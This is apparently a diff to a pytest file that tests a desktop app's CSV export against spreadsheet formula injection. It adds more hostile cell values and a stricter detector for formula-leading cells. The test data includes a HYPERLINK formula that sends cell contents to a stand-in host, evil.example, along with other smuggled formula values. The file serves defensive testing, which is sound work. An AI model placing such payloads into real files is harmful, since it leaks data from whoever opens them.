@@ -30,13 +30,19 @@ from desktop_app.store.store import PROFILE_FIELDS, PROSPECT_FIELDS
 EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Invoice")'
 HOSTILE = [EVIL, "+44 20 7946 0958", "-2+3", "@SUM(A1:A9)", "\tleading tab",
            "\rleading return", "'=already quoted", "''+twice", "'plain quote", "-5", "-2.5",
-           "=1+1", "", "Ørsted & Söhne", "a\nb"]
+           "=1+1", "", "Ørsted & Söhne", "a\nb",
+           # behind blanks a spreadsheet may trim, and the full-width signs Excel takes
+           # for ASCII in an East Asian locale
+           "  =1+1", "\u00a0@SUM(A1)", "\u3000-2+3", "\n=1+1", "\u200b=1+1",
+           "\uff1d1+1", "\uff0b1", "\uff0d2", "\uff20SUM(A1)", "' =quoted behind a blank",
+           " -5", "plain  =text"]
 
 
 
 def _formula(cell: str) -> bool:
     """Would a spreadsheet read this cell as the start of a formula?"""
-    return cell != "" and cell[0] in "=+-@\t\r"
+    head = cell.lstrip(" \n\u00a0\u3000\u200b")
+    return cell[:1] in ("\t", "\r") or head[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -204,6 +210,8 @@ def test_report_csv_is_formula_safe_and_keeps_negative_numbers(ctx, tmp_path):
     assert punctual and punctual[0][3] == "-4"  # a number a spreadsheet can sum
     assert not [c for r in rows for c in r
                 if _formula(c) and not c.lstrip("-").replace(".", "").isdigit()]
+    # Excel takes a CSV for UTF-8 only when it starts with the byte-order mark
+    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
 
 
 def test_a_zip_that_is_not_a_tickler_export_says_so(tmp_path):
